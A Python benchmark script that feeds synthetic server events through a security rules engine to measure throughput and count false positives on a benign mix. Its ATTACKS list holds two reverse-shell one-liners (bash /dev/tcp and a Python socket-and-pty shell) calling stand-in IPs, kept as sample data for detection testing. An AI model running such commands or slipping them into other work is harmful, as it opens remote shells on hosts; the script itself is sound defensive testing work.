"""Rules engine throughput: events/s through the built-in pack on one core.

    .venv/bin/python bench/rules_engine.py [--events 300000] [--batch 1000] [--sigma DIR]

Events are built up front (a realistic data-center mix: process starts, sockets,
auth and iam, file integrity, DNS, network sensor facts, host metrics and
heartbeats, with a thin stream of attacks in it) and fed to the engine in
ingest-sized batches, exactly as the collector's pipeline calls it. Only
``Engine.process`` is timed. Prints figures; never passes or fails on time.
Target (issue 6): >= 50,000 events/s.

With a Sigma directory (``--sigma``, default ``../shared/sigma-linux`` when it
exists, ``--sigma ''`` for none) the same events also run through the built-in
pack plus every rule of that directory that loads, rounds alternating with the
built-in pack alone, and both are printed side by side with their ratio
(issue 15: >= 100,000 events/s and >= 0.5). The rules that were refused are
counted by reason. Last, a benign-only mix (the same generator with no attacks)
is run once per rule set and the alerts it raises are printed per rule: those
are false positives (issue 15, item 8; classes in docs/detection.md).
"""

from __future__ import annotations

import argparse
import gc
import platform
import random
import statistics
import time
from pathlib import Path
from typing import Any

from canhgac.timeutil import from_epoch
from collector.detect.engine import Engine, EngineLimits
from collector.detect.loader import BUILTIN_DIR, LoadedRule, builtin_packs, load_paths, load_rules

T0 = 1_790_000_000.0
HOSTS = [f"srv-{i:03d}" for i in range(200)]
CTX = {"system": {"id": "cong-dvc", "name": "Cổng dịch vụ công", "level": 3},
       "unit": {"name": "Sở Thông tin và Truyền thông"}, "agent": {"id": "a"}}

COMMANDS = [
    "/usr/sbin/nginx -g daemon off;",
    "/usr/bin/python3 /opt/app/manage.py runserver 0.0.0.0:8000",
    "/bin/sh -c /usr/lib/php/sessionclean",
    "/usr/bin/find /var/log -name *.gz -mtime +30 -delete",
    "/usr/bin/rsync -a --delete /srv/data/ backup01:/backup/srv/data/",
    "/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main -c config_file=/etc/"
    "postgresql/15/main/postgresql.conf",
    "/usr/bin/java -Xms2g -Xmx4g -jar /opt/portal/portal.jar --spring.profiles.active=prod",
    "sshd: admin [priv]",
    "/usr/bin/curl -fsS https://repo.example.vn/health",
    "/usr/bin/systemctl status nginx",
    "nc -zv db-01 5432",
    "/bin/bash /usr/local/bin/backup.sh --full --target /mnt/backup",
]
# Routine operations work on servers, 10% of process starts: what admins and their tools
# run by hand or from cron. Benign by construction; the rules that fire on them are the
# false positives the bench reports (docs/detection.md, "False positives").
ADMIN_COMMANDS = [
    "id", "whoami", "uname -a", "hostname -f", "cat /etc/os-release", "ss -tlnp", "ps aux",
    "df -h", "free -m", "uptime", "crontab -l", "last -n 20", "sudo -l",
    "systemctl restart nginx", "journalctl -u nginx --since today",
    "apt-get update", "apt-get install -y --only-upgrade openssl", "dpkg -l",
    "tar czf /backup/etc.tgz /etc", "chmod +x /opt/app/deploy.sh", "/opt/app/deploy.sh",
    "git pull --ff-only", "docker ps", "kubectl get pods -A",
    "grep -r error /var/log/nginx", "vi /etc/nginx/nginx.conf", "tail -f /var/log/syslog",
    "curl -fsSL https://get.docker.com -o get-docker.sh", "sh get-docker.sh",
    "wget -q https://repo.example.vn/agent.deb -O /tmp/agent.deb", "dpkg -i /tmp/agent.deb",
    "useradd -m -s /bin/bash deploy", "passwd deploy", "usermod -aG docker deploy",
    "netstat -tulpn", "find /var/www -name *.php -mtime -1", "history",
]
ATTACKS = [
    "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1",
    "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.5\",443));"
    "os.dup2(s.fileno(),0);import pty;pty.spawn(\"/bin/sh\")'",
]
FILES = ["/etc/nginx/nginx.conf", "/var/www/html/index.php", "/usr/bin/ls", "/etc/hosts",
         "/opt/app/settings.py", "/etc/resolv.conf", "/var/lib/app/cache.db",
         "/etc/passwd", "/etc/cron.d/logrotate"]
FILE_WEIGHTS = [20, 30, 5, 5, 10, 5, 23, 1, 1]  # account and cron files change rarely


def _base(rng: random.Random, dataset: str, i: int, **fields: Any) -> dict[str, Any]:
    host = rng.choice(HOSTS)
    doc: dict[str, Any] = {
        "@timestamp": from_epoch(T0 + i * 0.001),
        "ecs": {"version": "8.11.0"},
        "event": {"kind": "event", "dataset": dataset, "id": f"ev-{i}", "module": "canhgac"},
        "host": {"hostname": host, "os": {"type": "linux"}},
        "agent": {"id": f"agent-{host}", "type": "canhgac"},
        "canhgac": CTX,
    }
    for key, value in fields.items():
        if key == "event":
            doc["event"].update(value)
        else:
            doc[key] = value
    return doc


def make_event(rng: random.Random, i: int, attacks: bool = True) -> dict[str, Any]:
    r = rng.random()
    if r < 0.33:
        attack = rng.random() < 0.0005 and attacks
        admin = rng.random() < 0.1
        cmd = rng.choice(ATTACKS) if attack else rng.choice(ADMIN_COMMANDS if admin else COMMANDS)
        exe = cmd.split()[0] if cmd.startswith("/") else "/usr/bin/" + cmd.split()[0]
        return _base(rng, "process", i, event={"category": ["process"], "type": ["start"]},
                     process={"pid": rng.randint(100, 99999), "command_line": cmd,
                              "executable": exe, "name": exe.rsplit("/", 1)[-1],
                              "parent": {"pid": 1}},
                     user={"name": rng.choice(["root", "www-data", "postgres", "admin"])})
    if r < 0.36:
        return _base(rng, "socket", i, event={"type": [rng.choice(["start", "end"])]},
                     server={"ip": rng.choice(["0.0.0.0", "127.0.0.1", "10.1.2.3"]),
                             "port": rng.choice([22, 80, 443, 5432, 8080, 4444])},
                     network={"transport": "tcp"})
    if r < 0.53:
        failure = rng.random() < 0.3
        attacker = failure and rng.random() < 0.5 and attacks
        if attacker:
            ip = f"203.0.113.{rng.randint(1, 20)}"
        else:
            ip = f"10.0.{rng.randint(0, 9)}.{rng.randint(1, 254)}"
        action = rng.choice(["ssh_login", "ssh_login", "sudo", "su"])
        user = rng.choice(["root", "admin", "oracle", "deploy"])
        port = rng.randint(1024, 65535)
        if action == "sudo":
            line = (f"sudo: {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; "
                    f"COMMAND=/usr/bin/{rng.choice(ADMIN_COMMANDS)}")
        elif action == "su":
            line = f"su[{rng.randint(100, 99999)}]: (to root) {user} on pts/1"
        else:
            line = (f"sshd[{rng.randint(100, 99999)}]: "
                    f"{'Failed' if failure else 'Accepted'} password for {user} from {ip} "
                    f"port {port} ssh2")
        return _base(rng, "auth", i,
                     event={"category": ["authentication"], "type": ["start"], "action": action,
                            "outcome": "failure" if failure else "success",
                            "original": "Dec  2 07:40:01 srv " + line},
                     user={"name": user}, source={"ip": ip, "port": port},
                     process={"name": "sshd"})
    if r < 0.532:
        etype = rng.choice([["user", "creation"], ["user", "change"], ["group", "creation"]])
        name, uid = f"u{rng.randint(1, 50)}", rng.randint(0 if attacks else 1, 2000)
        line = (f"Dec  2 07:40:01 srv useradd[{rng.randint(100, 99999)}]: new user: name={name}, "
                f"UID={uid}, GID={uid}, home=/home/{name}, shell=/bin/bash")
        return _base(rng, "iam", i, event={"category": ["iam"], "type": etype,
                                          "action": "user_modified", "original": line},
                     user={"name": name, "id": str(uid)})
    if r < 0.64:
        return _base(rng, "file", i, event={"category": ["file"],
                                           "type": [rng.choice(["change", "creation"])]},
                     file={"path": rng.choices(FILES, FILE_WEIGHTS)[0], "hash": {"sha256": "ab" * 32},
                           "mode": "0644", "owner": "root"})
    if r < 0.74:
        return _base(rng, "dns", i, dns={"question": {"name": f"host{rng.randint(1, 500)}.gov.vn",
                                                      "type": "A"}})
    if r < 0.77:
        action = rng.choices(["port_scan", "arp_spoof", "dns_query"], [1, 1, 50])[0]
        if not attacks:
            action = "dns_query"
        return _base(rng, "network", i, event={"action": action},
                     source={"ip": f"10.20.0.{rng.randint(1, 30)}"})
    if r < 0.95:
        return _base(rng, "host.metrics", i, event={"kind": "metric"},
                     host={"hostname": rng.choice(HOSTS), "cpu": {"usage": rng.random()}})
    return _base(rng, "agent.health", i, event={"kind": "state"})


class Clock:
    def __init__(self) -> None:
        self.now = T0

    def __call__(self) -> float:
        return self.now


DEFAULT_SIGMA = Path(__file__).resolve().parents[2] / "shared" / "sigma-linux"


def _rate(rules: list[LoadedRule], batches: list[list[dict[str, Any]]]) -> tuple[float, Engine]:
    """One timed pass of ``batches`` through a fresh engine: events/s and the engine."""
    clock = Clock()
    engine = Engine([lr.rule for lr in rules], EngineLimits(), clock=clock)
    n = sum(len(b) for b in batches)
    gc.collect()
    start = time.perf_counter()
    for b in batches:
        clock.now += 0.02  # ~50,000 events/s arriving
        engine.process(b)
    elapsed = time.perf_counter() - start
    return n / elapsed, engine


def _alerts_by_rule(rules: list[LoadedRule], engine: Engine) -> str:
    titles = {lr.rule.meta.id: lr.rule.meta.title for lr in rules}
    per_rule = sorted(((v, titles[k]) for k, v in engine.stats()["alerts"].items() if v),
                      reverse=True)
    return ", ".join(f"{name} {v}" for v, name in per_rule) or "none"


def _load_sigma(directory: Path | None) -> list[LoadedRule]:
    if directory is None:
        return []
    result = load_rules([(directory, directory.name)])
    reasons = ", ".join(f"{k} {v}" for k, v in result.refused_by_reason().items() if v)
    print(f"sigma: {directory}: {len(result.loaded)} rule(s) loaded, {len(result.refused)} "
          f"refused ({reasons or 'none'})")
    return result.loaded


def run(n: int, batch: int, rounds: int, sigma_dir: Path | None) -> None:
    builtin = load_paths([(BUILTIN_DIR / p, f"canhgac/{p}") for p in builtin_packs()])
    rng = random.Random(6)
    events = [make_event(rng, i) for i in range(n)]
    batches = [events[i:i + batch] for i in range(0, n, batch)]
    mix: dict[str, int] = {}
    for e in events:
        mix[e["event"]["dataset"]] = mix.get(e["event"]["dataset"], 0) + 1

    print(f"canhgac rules engine benchmark — Python {platform.python_version()}, "
          f"{platform.machine()}, one core")
    print(f"rules: {len(builtin)} built-in ({', '.join(builtin_packs())}); "
          f"events: {n:,} in batches of {batch}")
    sigma = _load_sigma(sigma_dir)
    print("mix: " + ", ".join(f"{k} {v * 100 / n:.1f}%" for k, v in sorted(mix.items())))
    sets: list[tuple[str, list[LoadedRule]]] = [("built-in", builtin)]
    if sigma:
        sets.append((f"built-in + {len(sigma)} sigma", builtin + sigma))
    rates: dict[str, list[float]] = {name: [] for name, _ in sets}
    for r in range(rounds):
        line = []
        for name, rules in sets:
            rate, engine = _rate(rules, batches)
            rates[name].append(rate)
            stats = engine.stats()
            line.append(f"{name}: {rate:>9,.0f} events/s ({1e6 / rate:.2f} µs/event, "
                        f"alerts {sum(stats['alerts'].values())}, "
                        f"suppressed {sum(stats['suppressed'].values())})")
        print(f"  round {r + 1}: " + " | ".join(line))
    medians = {name: statistics.median(v) for name, v in rates.items()}
    for name, _ in sets:
        print(f"median {name:<24} {medians[name]:>10,.0f} events/s   best {max(rates[name]):,.0f}")
    if sigma:
        name = sets[1][0]
        print(f"ratio (built-in + sigma) / built-in: {medians[name] / medians['built-in']:.2f}"
              f"   (targets: >= 100,000 events/s with sigma, ratio >= 0.5)")
    else:
        print("(target 50,000 events/s)")

    # The worst case: only process events (the dataset most rules read).
    procs = [e for e in events if e["event"]["dataset"] == "process"]
    pbatches = [procs[i:i + batch] for i in range(0, len(procs), batch)]
    for name, rules in sets:
        rate, _ = _rate(rules, pbatches)
        print(f"process events only (worst case), {name}: {rate:,.0f} events/s")
    rate, _ = _rate([], batches)
    print(f"no rules (dispatch floor): {rate:,.0f} events/s")

    # False positives: a benign-only mix, alerts per rule.
    rng = random.Random(7)
    benign = [make_event(rng, i, attacks=False) for i in range(n)]
    bbatches = [benign[i:i + batch] for i in range(0, n, batch)]
    for name, rules in sets:
        _, engine = _rate(rules, bbatches)
        print(f"benign mix, alerts by rule ({name}): {_alerts_by_rule(rules, engine)}")


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--events", type=int, default=300_000)
    ap.add_argument("--batch", type=int, default=1000)
    ap.add_argument("--rounds", type=int, default=3)
    ap.add_argument("--sigma", default=str(DEFAULT_SIGMA) if DEFAULT_SIGMA.is_dir() else "",
                    help="a Sigma rules directory run beside the built-in pack ('' for none)")
    args = ap.parse_args()
    run(args.events, args.batch, args.rounds, Path(args.sigma) if args.sigma else None)


if __name__ == "__main__":
    main()
